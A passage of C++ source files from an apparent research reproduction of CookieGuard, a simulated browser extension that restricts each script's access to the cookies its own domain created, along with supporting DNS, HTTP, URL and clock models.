      const auto url = net::Url::parse(who.script_url);
      if (url) {
        const std::string canonical =
            page.browser().dns().resolve_canonical(url->host());
        if (canonical != url->host()) {
          return net::etld_plus_one(canonical);
        }
      }
    }
    return who.domain;
  }
  // Inline/unattributable: try behaviour-signature matching (§8). The
  // topmost inline frame carries the snippet's content identity.
  if (config_.signature_db != nullptr &&
      page.browser().catalog() != nullptr) {
    for (auto it = stack.frames().rbegin(); it != stack.frames().rend();
         ++it) {
      if (!it->script_url.empty()) break;  // a real external frame wins
      if (it->function_name.starts_with("inline:")) {
        const auto matched = config_.signature_db->match_inline(
            *page.browser().catalog(), it->function_name.substr(7));
        if (matched) return *matched;
        break;
      }
    }
  }
  return {};
}

bool CookieGuard::may_access(const std::string& actor_domain,
                             const std::string& creator_domain,
                             const std::string& site) const {
  if (actor_domain.empty()) return false;  // inline / unattributable
  if (actor_domain == creator_domain) return true;
  if (config_.site_owner_full_access && actor_domain == site) return true;
  if (config_.entity_grouping &&
      entities_->same_entity(actor_domain, creator_domain)) {
    return true;
  }
  const auto it = config_.per_site_allowlist.find(site);
  if (it != config_.per_site_allowlist.end() &&
      it->second.count(actor_domain) != 0) {
    return true;
  }
  return false;
}

std::string CookieGuard::filter_document_cookie_read(
    browser::Page& page, const script::ExecContext& ctx,
    const webplat::StackTrace& stack, std::string value) {
  (void)ctx;
  const std::string actor = resolve_actor(stack, page);
  if (actor.empty()) {
    if (!config_.deny_inline_scripts) return value;
    ++stats_.inline_denied;
    note_decision(page, "cookieguard.inline_denied");
    return std::string{};
  }
  const std::string site = page.url().site();
  if (config_.site_owner_full_access && actor == site) return value;

  const auto dataset = store_.snapshot();  // background round trip
  std::string filtered;
  std::int64_t hidden = 0;
  for (const auto& cookie : script::parse_cookie_string(value)) {
    const auto creator_it = dataset.find(cookie.name);
    // Untracked cookies default to first-party ownership.
    const std::string creator =
        creator_it == dataset.end() ? site : creator_it->second;
    if (may_access(actor, creator, site)) {
      if (!filtered.empty()) filtered += "; ";
      filtered += cookie.name + "=" + cookie.value;
    } else {
      ++hidden;
      ++stats_.cookies_hidden;
    }
  }
  if (hidden > 0) {
    ++stats_.reads_filtered;
    note_decision(page, "cookieguard.reads_filtered");
    obs::metric_add("cookieguard.cookies_hidden", hidden);
  }
  return filtered;
}

void CookieGuard::filter_store_read(browser::Page& page,
                                    const script::ExecContext& ctx,
                                    const webplat::StackTrace& stack,
                                    std::vector<script::StoreCookie>& cookies) {
  (void)ctx;
  const std::string actor = resolve_actor(stack, page);
  const std::string site = page.url().site();
  if (actor.empty()) {
    if (!config_.deny_inline_scripts) return;
    ++stats_.inline_denied;
    stats_.cookies_hidden += cookies.size();
    note_decision(page, "cookieguard.inline_denied");
    obs::metric_add("cookieguard.cookies_hidden",
                    static_cast<std::int64_t>(cookies.size()));
    cookies.clear();
    return;
  }
  if (config_.site_owner_full_access && actor == site) return;

  const auto dataset = store_.snapshot();
  const std::size_t before = cookies.size();
  std::erase_if(cookies, [&](const script::StoreCookie& cookie) {
    const auto creator_it = dataset.find(cookie.name);
    const std::string creator =
        creator_it == dataset.end() ? site : creator_it->second;
    return !may_access(actor, creator, site);
  });
  if (cookies.size() != before) {
    ++stats_.reads_filtered;
    stats_.cookies_hidden += before - cookies.size();
    note_decision(page, "cookieguard.reads_filtered");
    obs::metric_add("cookieguard.cookies_hidden",
                    static_cast<std::int64_t>(before - cookies.size()));
  }
}

bool CookieGuard::allow_document_cookie_write(browser::Page& page,
                                              const script::ExecContext& ctx,
                                              const webplat::StackTrace& stack,
                                              std::string_view cookie_line) {
  (void)ctx;
  const std::string actor = resolve_actor(stack, page);
  if (actor.empty()) {
    if (!config_.deny_inline_scripts) return true;
    ++stats_.inline_denied;
    note_decision(page, "cookieguard.inline_denied");
    return false;
  }
  const std::string name = cookie_name_of(cookie_line);
  const std::string creator = bus_.request("lookup", name);
  if (creator.empty()) return true;  // new cookie: creation is always allowed
  const std::string site = page.url().site();
  if (may_access(actor, creator, site)) return true;
  ++stats_.writes_blocked;
  note_decision(page, "cookieguard.writes_blocked");
  return false;
}

bool CookieGuard::allow_store_write(browser::Page& page,
                                    const script::ExecContext& ctx,
                                    const webplat::StackTrace& stack,
                                    std::string_view cookie_name,
                                    std::string_view value, bool is_delete) {
  (void)ctx;
  (void)value;
  (void)is_delete;
  const std::string actor = resolve_actor(stack, page);
  if (actor.empty()) {
    if (!config_.deny_inline_scripts) return true;
    ++stats_.inline_denied;
    note_decision(page, "cookieguard.inline_denied");
    return false;
  }
  const std::string creator = bus_.request("lookup", std::string(cookie_name));
  if (creator.empty()) return true;
  if (may_access(actor, creator, page.url().site())) return true;
  ++stats_.writes_blocked;
  note_decision(page, "cookieguard.writes_blocked");
  return false;
}

void CookieGuard::on_script_cookie_change(browser::Page& page,
                                          const script::ExecContext& ctx,
                                          const webplat::StackTrace& stack,
                                          const cookies::CookieChange& change,
                                          cookies::CookieSource api) {
  (void)ctx;
  (void)api;
  const std::string actor = resolve_actor(stack, page);
  const cookies::Cookie* state =
      change.current ? &*change.current
                     : (change.previous ? &*change.previous : nullptr);
  if (state == nullptr) return;
  switch (change.type) {
    case Type::kCreated:
      // Attribute to the acting script; unattributable creations are owned
      // by the first party (they can only have been allowed with
      // deny_inline_scripts off).
      bus_.request("record", state->name + '\x1f' +
                                 (actor.empty() ? page.url().site() : actor));
      note_decision(page, "cookieguard.partition_records");
      break;
    case Type::kDeleted:
      bus_.request("erase", state->name);
      note_decision(page, "cookieguard.partition_erases");
      break;
    case Type::kOverwritten:
    case Type::kExpiredNoop:
    case Type::kRejected:
      break;  // ownership unchanged
  }
}

void CookieGuard::on_headers_received(
    browser::Page& page, const net::HttpRequest& request,
    const net::HttpResponse& response,
    const std::vector<cookies::CookieChange>& changes) {
  (void)page;
  (void)response;
  for (const auto& change : changes) {
    const cookies::Cookie* state =
        change.current ? &*change.current
                       : (change.previous ? &*change.previous : nullptr);
    if (state == nullptr || state->http_only) continue;
    switch (change.type) {
      case Type::kCreated:
      case Type::kOverwritten:
        // Header (re-)sets attribute the cookie to the responding site —
        // including re-sets of script-created cookies (the reload
        // re-attribution behaviour discussed in §7.2).
        bus_.request("record", state->name + '\x1f' + request.url.site());
        note_decision(page, "cookieguard.partition_records");
        break;
      case Type::kDeleted:
        bus_.request("erase", state->name);
        note_decision(page, "cookieguard.partition_erases");
        break;
      default:
        break;
    }
  }
}

}  // namespace cg::cookieguard
