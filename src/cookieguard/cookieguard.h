// CookieGuard: per-script-origin isolation of the first-party cookie jar
// (paper §6).
//
// Enforcement rules:
//   * Every cookie is owned by the eTLD+1 that created it (script writes are
//     attributed via the stack trace; HTTP Set-Cookie via the response URL).
//   * document.cookie / cookieStore reads return only cookies the calling
//     script's domain created.
//   * Writes (overwrite/delete) to cookies created by a different domain are
//     blocked.
//   * The site owner's own scripts get full access (anti-breakage policy,
//     §6.1) — this is why Figure 5's reductions are ~83-86%, not 100%.
//   * Inline scripts (unattributable) are denied all cookie access.
//   * Optional entity grouping (DuckDuckGo-entities whitelist) treats
//     same-entity domains as one owner (facebook.com ↔ fbcdn.net), the
//     refinement that cuts breakage from 11% to 3% (§7.2).
//   * Optional per-site domain policies grant named third-party domains full
//     access on specific sites (e.g. the SSO providers on zoom.us).
#pragma once

#include <cstdint>
#include <map>
#include <set>
#include <string>

#include "browser/extension.h"
#include "cookieguard/metadata_store.h"
#include "cookieguard/signatures.h"
#include "entities/entity_map.h"
#include "ext/attribution.h"
#include "ext/message_bus.h"

namespace cg::cookieguard {

struct CookieGuardConfig {
  /// §6.1: scripts from the visited site's own domain see the whole jar.
  bool site_owner_full_access = true;
  /// §6.1: inline scripts are untrusted and get no cookie access.
  bool deny_inline_scripts = true;
  /// §7.2 refinement: same-entity domains share ownership.
  bool entity_grouping = false;
  /// Per-site domain policies: site eTLD+1 → third-party domains granted
  /// full jar access on that site.
  std::map<std::string, std::set<std::string>> per_site_allowlist;
  /// Attribution mode (ablation knob; the paper uses last-external).
  ext::AttributionMode attribution = ext::AttributionMode::kLastExternal;
  /// §8 counter-evasion: resolve CNAME chains so a tracker cloaked behind a
  /// first-party subdomain is attributed to its canonical domain.
  bool resolve_cname_cloaking = false;
  /// §8 refinement: behaviour-signature database; inline scripts whose
  /// signature matches a known vendor script are treated as that vendor
  /// instead of being denied. Non-owning; may be null.
  const SignatureDb* signature_db = nullptr;
  /// Simulated per-intercepted-call cost (wrapper + messaging round trip).
  TimeMillis api_overhead_ms = 5;
};

class CookieGuard final : public browser::Extension {
 public:
  explicit CookieGuard(
      CookieGuardConfig config = {},
      const entities::EntityMap* entities = &entities::EntityMap::builtin());

  std::string name() const override { return "cookieguard"; }

  struct Stats {
    std::uint64_t reads_filtered = 0;    // reads where ≥1 cookie was hidden
    std::uint64_t cookies_hidden = 0;    // total cookies removed from reads
    std::uint64_t writes_blocked = 0;    // vetoed cross-domain writes
    std::uint64_t inline_denied = 0;     // inline/unattributable accesses

    /// Sums another instance's counters — aggregates the per-worker guards
    /// of a sharded crawl into one crawl-wide tally.
    void merge(const Stats& other) {
      reads_filtered += other.reads_filtered;
      cookies_hidden += other.cookies_hidden;
      writes_blocked += other.writes_blocked;
      inline_denied += other.inline_denied;
    }
  };
  const Stats& stats() const { return stats_; }
  const MetadataStore& store() const { return store_; }
  const CookieGuardConfig& config() const { return config_; }

  // ---- browser::Extension -----------------------------------------------
  void on_visit_start(browser::Browser& browser) override;
  std::string filter_document_cookie_read(browser::Page& page,
                                          const script::ExecContext& ctx,
                                          const webplat::StackTrace& stack,
                                          std::string value) override;
  bool allow_document_cookie_write(browser::Page& page,
                                   const script::ExecContext& ctx,
                                   const webplat::StackTrace& stack,
                                   std::string_view cookie_line) override;
  void filter_store_read(browser::Page& page, const script::ExecContext& ctx,
                         const webplat::StackTrace& stack,
                         std::vector<script::StoreCookie>& cookies) override;
  bool allow_store_write(browser::Page& page, const script::ExecContext& ctx,
                         const webplat::StackTrace& stack,
                         std::string_view cookie_name, std::string_view value,
                         bool is_delete) override;
  void on_script_cookie_change(browser::Page& page,
                               const script::ExecContext& ctx,
                               const webplat::StackTrace& stack,
                               const cookies::CookieChange& change,
                               cookies::CookieSource api) override;
  void on_headers_received(
      browser::Page& page, const net::HttpRequest& request,
      const net::HttpResponse& response,
      const std::vector<cookies::CookieChange>& changes) override;
  TimeMillis api_call_overhead_ms() const override {
    return config_.api_overhead_ms;
  }

 private:
  /// May `actor_domain` access a cookie created by `creator_domain` on
  /// `site`? Implements the full policy lattice above.
  bool may_access(const std::string& actor_domain,
                  const std::string& creator_domain,
                  const std::string& site) const;

  /// Resolves the acting domain from the stack (with optional CNAME
  /// uncloaking and inline-signature matching); empty = inline/unknown.
  std::string resolve_actor(const webplat::StackTrace& stack,
                            browser::Page& page) const;

  CookieGuardConfig config_;
  const entities::EntityMap* entities_;
  MetadataStore store_;
  ext::MessageBus bus_;
  Stats stats_;
};

}  // namespace cg::cookieguard
