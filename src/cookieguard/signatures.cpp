#include "cookieguard/signatures.h"

#include "crypto/sha1.h"
#include "net/psl.h"
#include "net/url.h"
#include "script/ops.h"

namespace cg::cookieguard {
namespace {

void serialize_ops(const std::vector<script::ScriptOp>& ops,
                   std::string& out) {
  for (const auto& op : ops) {
    out += script::to_string(op.kind);
    out += '(';
    out += op.cookie_name;
    for (const auto& target : op.target_cookie_names) {
      out += ',';
      out += target;
    }
    if (!op.dest_host.empty()) {
      out += "->";
      out += op.dest_host;
    }
    out += script::to_string(op.encoding);
    out += ')';
    // Nested programs contribute structure; delays deliberately do not.
    if (!op.nested.empty()) {
      out += '[';
      serialize_ops(op.nested, out);
      out += ']';
    }
  }
}

}  // namespace

std::string SignatureDb::signature_of(const script::ScriptSpec& spec) {
  std::string serialized;
  serialize_ops(spec.ops, serialized);
  return crypto::Sha1::hex(serialized);
}

void SignatureDb::add(const script::ScriptSpec& spec,
                      std::string_view domain) {
  signatures_.insert_or_assign(signature_of(spec), std::string(domain));
}

void SignatureDb::build_from_catalog(const browser::ScriptCatalog& catalog) {
  for (const auto& [id, spec] : catalog.all()) {
    if (spec.is_inline) continue;
    const auto url = net::Url::parse(spec.url_template);
    if (!url || url->site().empty() ||
        url->host().find('{') != std::string::npos) {
      continue;  // templated first-party URLs are not vendor scripts
    }
    add(spec, url->site());
  }
}

std::optional<std::string> SignatureDb::domain_for(
    std::string_view signature) const {
  const auto it = signatures_.find(signature);
  if (it == signatures_.end()) return std::nullopt;
  return it->second;
}

std::optional<std::string> SignatureDb::match_inline(
    const browser::ScriptCatalog& catalog, std::string_view script_id) const {
  const auto* spec = catalog.find(script_id);
  if (spec == nullptr) return std::nullopt;
  return domain_for(signature_of(*spec));
}

}  // namespace cg::cookieguard
