// Behaviour signatures for scripts (paper §8, after Chen et al.).
//
// CookieGuard's safe-by-default policy denies inline scripts all cookie
// access — which over-blocks sites that inline a well-known vendor snippet
// (e.g. pasting the gtag loader instead of referencing it). The paper
// proposes building behaviour signatures from a large-scale crawl and, when
// a "first-party" script's signature matches a known third-party script,
// treating it as that third party.
//
// Here a signature is a digest of a script's normalised behaviour program
// (op kinds, cookie names, destinations — scheduling delays excluded so the
// signature survives timing jitter, a nod to the robustness requirement the
// paper raises).
#pragma once

#include <map>
#include <optional>
#include <string>
#include <string_view>

#include "browser/catalog.h"
#include "script/script_spec.h"

namespace cg::cookieguard {

class SignatureDb {
 public:
  /// Digest of a spec's normalised behaviour (stable across delay changes).
  static std::string signature_of(const script::ScriptSpec& spec);

  /// Registers a known script's signature with its true domain.
  void add(const script::ScriptSpec& spec, std::string_view domain);

  /// Builds the database from every *external* script in a catalog — the
  /// offline "large-scale web crawl" of §8.
  void build_from_catalog(const browser::ScriptCatalog& catalog);

  /// Domain registered for `signature`, if any.
  std::optional<std::string> domain_for(std::string_view signature) const;

  /// Convenience for the runtime path: looks up an inline script's spec by
  /// content identity and matches its signature.
  std::optional<std::string> match_inline(
      const browser::ScriptCatalog& catalog, std::string_view script_id) const;

  std::size_t size() const { return signatures_.size(); }

 private:
  std::map<std::string, std::string, std::less<>> signatures_;
};

}  // namespace cg::cookieguard
