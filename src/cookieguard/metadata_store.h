// CookieGuard's background dataset: cookie name → creator eTLD+1.
//
// Mirrors background.js in the paper's Figure 4: it records the creator of
// every first-party cookie (from script writes relayed by the content
// script, and from HTTP Set-Cookie headers seen via webRequest), and serves
// snapshot copies for read-time filtering.
#pragma once

#include <map>
#include <optional>
#include <string>
#include <string_view>

namespace cg::cookieguard {

class MetadataStore {
 public:
  /// Records (or re-attributes) a cookie's creator. HTTP re-sets overwrite
  /// the recorded creator — deliberately mirroring the paper's
  /// implementation, including the reload-reattribution quirk behind the
  /// cnn.com minor breakage (§7.2).
  void record(std::string_view cookie_name, std::string_view creator_domain) {
    store_.insert_or_assign(std::string(cookie_name),
                            std::string(creator_domain));
  }

  /// Creator of `cookie_name`, if tracked.
  std::optional<std::string> creator(std::string_view cookie_name) const {
    const auto it = store_.find(cookie_name);
    if (it == store_.end()) return std::nullopt;
    return it->second;
  }

  void erase(std::string_view cookie_name) {
    store_.erase(std::string(cookie_name));
  }

  void clear() { store_.clear(); }
  std::size_t size() const { return store_.size(); }

  /// Snapshot copy, as background.js hands the content script "a current
  /// copy of the dataset for accurate cookie filtering".
  std::map<std::string, std::string, std::less<>> snapshot() const {
    return store_;
  }

 private:
  std::map<std::string, std::string, std::less<>> store_;
};

}  // namespace cg::cookieguard
