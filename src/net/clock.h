// Simulated wall-clock used throughout the CookieGuard reproduction.
//
// Everything in the simulator (cookie expiry, page-load timings, event-loop
// scheduling, crawl pauses) is driven by a deterministic millisecond clock so
// that crawls of the synthetic corpus are exactly reproducible.
#pragma once

#include <cstdint>

namespace cg {

/// Milliseconds since the Unix epoch (simulated).
using TimeMillis = std::int64_t;

/// A deterministic, manually-advanced clock.
///
/// The simulator never reads the real system clock: all components that need
/// "now" hold a pointer to a SimClock owned by the Browser (or test fixture)
/// and the crawl driver advances it as simulated work happens.
class SimClock {
 public:
  /// Starts at `start` (defaults to 2025-05-09T00:00:00Z, inside the paper's
  /// crawl window — cookie values embed this timestamp like real trackers do).
  explicit SimClock(TimeMillis start = kDefaultStart) : now_(start) {}

  TimeMillis now() const { return now_; }

  /// Advances time; negative deltas are ignored (time is monotonic).
  void advance(TimeMillis delta_ms) {
    if (delta_ms > 0) now_ += delta_ms;
  }

  /// Jumps to an absolute time if it is in the future.
  void advance_to(TimeMillis t) {
    if (t > now_) now_ = t;
  }

  static constexpr TimeMillis kDefaultStart = 1746748800000;  // 2025-05-09 UTC

 private:
  TimeMillis now_;
};

}  // namespace cg
