// Minimal DNS model: CNAME chains, with explicit failure statuses.
//
// CNAME cloaking (paper §8) hides a tracker behind a first-party subdomain:
// metrics.example.com CNAMEs to collect.tracker.net, so script-URL
// attribution sees a first-party script while the traffic really belongs to
// the tracker. CookieGuard can optionally resolve canonical names to
// uncloak such scripts.
//
// Resolution can fail: CNAME cycles and overlong chains are detected and
// surfaced as statuses (RFC 1034 §3.6.2 forbids loops; real resolvers
// SERVFAIL on them), and the crawl fault layer can inject per-host failures
// (NXDOMAIN) to model sites whose names stopped resolving mid-crawl.
#pragma once

#include <map>
#include <string>
#include <string_view>

namespace cg::net {

enum class DnsStatus {
  kOk = 0,
  kNxDomain,      // injected resolution failure: the name does not resolve
  kCnameLoop,     // the CNAME chain revisits a host
  kChainTooLong,  // the chain exceeds the resolver's hop bound
};

constexpr std::string_view to_string(DnsStatus status) {
  switch (status) {
    case DnsStatus::kOk:
      return "OK";
    case DnsStatus::kNxDomain:
      return "NXDOMAIN";
    case DnsStatus::kCnameLoop:
      return "CNAME_LOOP";
    case DnsStatus::kChainTooLong:
      return "CHAIN_TOO_LONG";
  }
  return "UNKNOWN";
}

struct DnsResolution {
  /// Canonical name on success; the queried host unchanged on failure.
  std::string canonical;
  DnsStatus status = DnsStatus::kOk;

  bool ok() const { return status == DnsStatus::kOk; }
};

class DnsResolver {
 public:
  /// Adds `host CNAME target`. Chains are followed on resolution.
  void add_cname(std::string_view host, std::string_view target);

  /// Follows the CNAME chain from `host` to its canonical name. Hosts
  /// without records resolve to themselves. Cycles, overlong chains, and
  /// injected failures surface as non-kOk statuses.
  DnsResolution resolve(std::string_view host) const;

  /// Compatibility wrapper around resolve(): returns the canonical name on
  /// success and the *input* host on any failure (it never silently returns
  /// an intermediate hop of a looping chain).
  std::string resolve_canonical(std::string_view host) const;

  /// Injects a resolution failure for `host` (fault layer). The failure
  /// applies before any CNAME lookup.
  void inject_failure(std::string_view host, DnsStatus status);
  void clear_failures() { failures_.clear(); }

  bool has_cname(std::string_view host) const {
    return cnames_.find(host) != cnames_.end();
  }

  std::size_t record_count() const { return cnames_.size(); }

 private:
  std::map<std::string, std::string, std::less<>> cnames_;
  std::map<std::string, DnsStatus, std::less<>> failures_;
};

}  // namespace cg::net
