// Minimal DNS model: CNAME chains.
//
// CNAME cloaking (paper §8) hides a tracker behind a first-party subdomain:
// metrics.example.com CNAMEs to collect.tracker.net, so script-URL
// attribution sees a first-party script while the traffic really belongs to
// the tracker. CookieGuard can optionally resolve canonical names to
// uncloak such scripts.
#pragma once

#include <map>
#include <string>
#include <string_view>

namespace cg::net {

class DnsResolver {
 public:
  /// Adds `host CNAME target`. Chains are followed on resolution.
  void add_cname(std::string_view host, std::string_view target);

  /// Follows the CNAME chain from `host` to its canonical name (bounded
  /// against loops). Hosts without records resolve to themselves.
  std::string resolve_canonical(std::string_view host) const;

  bool has_cname(std::string_view host) const {
    return cnames_.find(host) != cnames_.end();
  }

  std::size_t record_count() const { return cnames_.size(); }

 private:
  std::map<std::string, std::string, std::less<>> cnames_;
};

}  // namespace cg::net
