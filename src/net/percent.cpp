#include "net/percent.h"

#include <array>

namespace cg::net {
namespace {

constexpr char kHexDigits[] = "0123456789ABCDEF";

bool is_unreserved(unsigned char c) {
  return (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') ||
         (c >= '0' && c <= '9') || c == '-' || c == '.' || c == '_' ||
         c == '~';
}

int hex_value(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

std::string decode_impl(std::string_view input, bool plus_as_space) {
  std::string out;
  out.reserve(input.size());
  for (std::size_t i = 0; i < input.size(); ++i) {
    const char c = input[i];
    if (c == '%' && i + 2 < input.size()) {
      const int hi = hex_value(input[i + 1]);
      const int lo = hex_value(input[i + 2]);
      if (hi >= 0 && lo >= 0) {
        out.push_back(static_cast<char>((hi << 4) | lo));
        i += 2;
        continue;
      }
    }
    if (plus_as_space && c == '+') {
      out.push_back(' ');
    } else {
      out.push_back(c);
    }
  }
  return out;
}

}  // namespace

std::string percent_encode(std::string_view input) {
  std::string out;
  out.reserve(input.size());
  for (const char ch : input) {
    const auto c = static_cast<unsigned char>(ch);
    if (is_unreserved(c)) {
      out.push_back(ch);
    } else {
      out.push_back('%');
      out.push_back(kHexDigits[c >> 4]);
      out.push_back(kHexDigits[c & 0xF]);
    }
  }
  return out;
}

std::string percent_decode(std::string_view input) {
  return decode_impl(input, /*plus_as_space=*/false);
}

std::string form_decode(std::string_view input) {
  return decode_impl(input, /*plus_as_space=*/true);
}

}  // namespace cg::net
