#include "net/http.h"

#include <algorithm>
#include <cctype>

namespace cg::net {
namespace {

bool iequals(std::string_view a, std::string_view b) {
  return a.size() == b.size() &&
         std::equal(a.begin(), a.end(), b.begin(), [](char x, char y) {
           return std::tolower(static_cast<unsigned char>(x)) ==
                  std::tolower(static_cast<unsigned char>(y));
         });
}

}  // namespace

void HttpHeaders::add(std::string_view name, std::string_view value) {
  fields_.push_back({std::string(name), std::string(value)});
}

void HttpHeaders::set(std::string_view name, std::string_view value) {
  remove(name);
  add(name, value);
}

void HttpHeaders::remove(std::string_view name) {
  std::erase_if(fields_,
                [&](const Field& f) { return iequals(f.name, name); });
}

std::optional<std::string> HttpHeaders::get(std::string_view name) const {
  for (const auto& f : fields_) {
    if (iequals(f.name, name)) return f.value;
  }
  return std::nullopt;
}

std::vector<std::string> HttpHeaders::get_all(std::string_view name) const {
  std::vector<std::string> out;
  for (const auto& f : fields_) {
    if (iequals(f.name, name)) out.push_back(f.value);
  }
  return out;
}

std::string_view to_string(HttpMethod method) {
  switch (method) {
    case HttpMethod::kGet:
      return "GET";
    case HttpMethod::kPost:
      return "POST";
    case HttpMethod::kHead:
      return "HEAD";
  }
  return "GET";
}

}  // namespace cg::net
