// HTTP message model: case-insensitive headers, requests and responses.
//
// The simulator's network layer exchanges these objects instead of bytes on
// a socket; header semantics (notably Set-Cookie, which may repeat) follow
// RFC 9110 field rules.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "net/clock.h"
#include "net/url.h"

namespace cg::net {

/// Transport-level outcome of carrying a request. kOk means the server
/// handler ran; everything else means no response body ever arrived.
/// (Chromium's net error space, reduced to the failures the crawl pipeline
/// models.)
enum class NetError {
  kOk = 0,
  kDnsFailure,         // name resolution failed
  kConnectionTimeout,  // connect() never completed
  kConnectionReset,    // peer dropped the connection mid-transfer
};

constexpr std::string_view to_string(NetError error) {
  switch (error) {
    case NetError::kOk:
      return "OK";
    case NetError::kDnsFailure:
      return "ERR_NAME_NOT_RESOLVED";
    case NetError::kConnectionTimeout:
      return "ERR_CONNECTION_TIMED_OUT";
    case NetError::kConnectionReset:
      return "ERR_CONNECTION_RESET";
  }
  return "ERR_UNKNOWN";
}

/// What the transport decided about a request before any server handler
/// ran: an error short-circuits dispatch; latency is burned on the
/// simulated clock either way. Fault-injection hooks produce these.
struct TransportVerdict {
  NetError error = NetError::kOk;
  TimeMillis latency_ms = 0;
};

/// Ordered multimap of header fields with case-insensitive names.
class HttpHeaders {
 public:
  void add(std::string_view name, std::string_view value);
  /// Replaces all values of `name` with a single `value`.
  void set(std::string_view name, std::string_view value);
  void remove(std::string_view name);

  /// First value for `name`, if any.
  std::optional<std::string> get(std::string_view name) const;
  /// All values for `name` in insertion order (needed for Set-Cookie).
  std::vector<std::string> get_all(std::string_view name) const;
  bool has(std::string_view name) const { return get(name).has_value(); }

  std::size_t size() const { return fields_.size(); }
  bool empty() const { return fields_.empty(); }

  struct Field {
    std::string name;
    std::string value;
  };
  const std::vector<Field>& fields() const { return fields_; }

 private:
  std::vector<Field> fields_;
};

enum class HttpMethod { kGet, kPost, kHead };

std::string_view to_string(HttpMethod method);

/// The context a request was issued from, used for first/third-party
/// classification and (for script-initiated requests) attribution.
enum class RequestDestination {
  kDocument,   // top-level navigation
  kScript,     // <script src=...>
  kSubframe,   // <iframe src=...>
  kImage,      // pixels/beacons
  kXhr,        // fetch/XHR/sendBeacon from script
  kOther,
};

struct HttpRequest {
  HttpMethod method = HttpMethod::kGet;
  Url url;
  HttpHeaders headers;
  std::string body;
  RequestDestination destination = RequestDestination::kOther;
  /// URL of the document (or script) that caused this request; empty for
  /// top-level navigations. Mirrors Chrome's `initiator`.
  std::string initiator;
};

struct HttpResponse {
  int status = 200;
  HttpHeaders headers;
  std::string body;
  /// Transport failure, if any. When != kOk no server handler ran and
  /// status/headers/body are meaningless (status is 0 by convention).
  NetError net_error = NetError::kOk;

  bool transport_ok() const { return net_error == NetError::kOk; }

  /// Convenience: all Set-Cookie header values in order.
  std::vector<std::string> set_cookie_headers() const {
    return headers.get_all("Set-Cookie");
  }
};

}  // namespace cg::net
