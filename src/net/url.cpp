#include "net/url.h"

#include <algorithm>
#include <cctype>
#include <cstdio>
#include <cstdlib>

#include "net/psl.h"

namespace cg::net {
namespace {

std::string ascii_lower(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), [](unsigned char c) {
    return static_cast<char>(std::tolower(c));
  });
  return out;
}

bool valid_scheme(std::string_view s) {
  if (s.empty() || !std::isalpha(static_cast<unsigned char>(s[0]))) {
    return false;
  }
  return std::all_of(s.begin(), s.end(), [](unsigned char c) {
    return std::isalnum(c) || c == '+' || c == '-' || c == '.';
  });
}

}  // namespace

std::uint16_t default_port_for_scheme(std::string_view scheme) {
  if (scheme == "http" || scheme == "ws") return 80;
  if (scheme == "https" || scheme == "wss") return 443;
  return 0;
}

std::optional<Url> Url::parse(std::string_view input) {
  const auto scheme_end = input.find("://");
  if (scheme_end == std::string_view::npos) return std::nullopt;

  Url url;
  url.scheme_ = ascii_lower(input.substr(0, scheme_end));
  if (!valid_scheme(url.scheme_)) return std::nullopt;

  std::string_view rest = input.substr(scheme_end + 3);

  const auto frag_pos = rest.find('#');
  if (frag_pos != std::string_view::npos) {
    url.fragment_ = std::string(rest.substr(frag_pos + 1));
    rest = rest.substr(0, frag_pos);
  }
  const auto query_pos = rest.find('?');
  if (query_pos != std::string_view::npos) {
    url.query_ = std::string(rest.substr(query_pos + 1));
    rest = rest.substr(0, query_pos);
  }
  const auto path_pos = rest.find('/');
  std::string_view authority = rest;
  if (path_pos != std::string_view::npos) {
    url.path_ = std::string(rest.substr(path_pos));
    authority = rest.substr(0, path_pos);
  }

  // Strip userinfo if present; the simulator never uses credentials.
  const auto at = authority.rfind('@');
  if (at != std::string_view::npos) authority = authority.substr(at + 1);

  const auto colon = authority.rfind(':');
  if (colon != std::string_view::npos) {
    const std::string port_str(authority.substr(colon + 1));
    char* end = nullptr;
    const long port = std::strtol(port_str.c_str(), &end, 10);
    if (end == port_str.c_str() || *end != '\0' || port < 0 || port > 65535) {
      return std::nullopt;
    }
    url.port_ = static_cast<std::uint16_t>(port);
    authority = authority.substr(0, colon);
  } else {
    url.port_ = default_port_for_scheme(url.scheme_);
  }

  if (authority.empty()) return std::nullopt;
  url.host_ = ascii_lower(authority);
  return url;
}

Url Url::must_parse(std::string_view input) {
  auto url = parse(input);
  if (!url) {
    std::fprintf(stderr, "Url::must_parse: invalid URL: %.*s\n",
                 static_cast<int>(input.size()), input.data());
    std::abort();
  }
  return *std::move(url);
}

Url Url::resolve(std::string_view relative) const {
  if (relative.find("://") != std::string_view::npos) {
    if (auto abs = parse(relative)) return *abs;
  }
  Url out = *this;
  out.fragment_.clear();
  if (relative.empty()) return out;
  if (relative[0] == '#') {
    out.fragment_ = std::string(relative.substr(1));
    out.query_ = query_;
    return out;
  }
  out.query_.clear();
  if (relative[0] == '?') {
    out.query_ = std::string(relative.substr(1));
    out.path_ = path_;
    return out;
  }
  if (relative[0] == '/') {
    std::string_view rest = relative;
    const auto q = rest.find('?');
    if (q != std::string_view::npos) {
      out.query_ = std::string(rest.substr(q + 1));
      rest = rest.substr(0, q);
    }
    out.path_ = std::string(rest);
    return out;
  }
  // Relative to the current directory.
  const auto last_slash = path_.rfind('/');
  const std::string dir = path_.substr(0, last_slash + 1);
  std::string_view rest = relative;
  const auto q = rest.find('?');
  if (q != std::string_view::npos) {
    out.query_ = std::string(rest.substr(q + 1));
    rest = rest.substr(0, q);
  }
  out.path_ = dir + std::string(rest);
  return out;
}

std::string Url::origin() const {
  // Appends rather than chained operator+ to sidestep a GCC 12 -Wrestrict
  // false positive (PR 105329) that trips warnings-as-errors builds.
  std::string out = scheme_;
  out += "://";
  out += host_;
  if (port_ != default_port_for_scheme(scheme_)) {
    out += ':';
    out += std::to_string(port_);
  }
  return out;
}

std::string Url::site() const { return etld_plus_one(host_); }

std::string Url::default_cookie_path() const {
  // RFC 6265 §5.1.4: up to but not including the right-most '/'; "/" if the
  // path is empty or has no further slash.
  if (path_.empty() || path_[0] != '/') return "/";
  const auto last_slash = path_.rfind('/');
  if (last_slash == 0) return "/";
  return path_.substr(0, last_slash);
}

std::string Url::spec() const {
  std::string out = origin() + path_;
  if (!query_.empty()) out += "?" + query_;
  if (!fragment_.empty()) out += "#" + fragment_;
